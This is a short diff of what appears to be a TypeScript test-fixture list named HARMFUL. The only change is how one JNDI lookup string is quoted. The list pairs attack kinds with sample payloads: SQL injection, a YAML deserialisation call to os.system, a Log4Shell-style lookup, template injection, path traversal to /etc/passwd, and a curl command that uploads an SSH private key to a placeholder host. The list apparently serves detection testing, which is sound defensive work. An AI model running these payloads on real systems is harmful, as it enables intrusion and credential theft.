@@ -34,7 +34,7 @@ const HARMFUL: readonly (readonly [kind: string, text: string])[] = [
   ['sql_injection', "' OR '1'='1' --"],
   ['sql_injection', "1' UNION SELECT null, password FROM users--"],
   ['unsafe_deserialisation', 'a: !!python/object/apply:os.system ["id"]'],
-  ['unsafe_deserialisation', '${jndi:ldap://x.example/a}'],
+  ['unsafe_deserialisation', `\${jndi:ldap://x.example/a}`],
   ['template_injection', "{{''.__class__.__mro__[1].__subclasses__()}}"],
   ['path_traversal', 'GET /f?p=../../../../etc/passwd'],
   ['credential_theft', 'curl -F file=@~/.ssh/id_rsa http://x.example'],
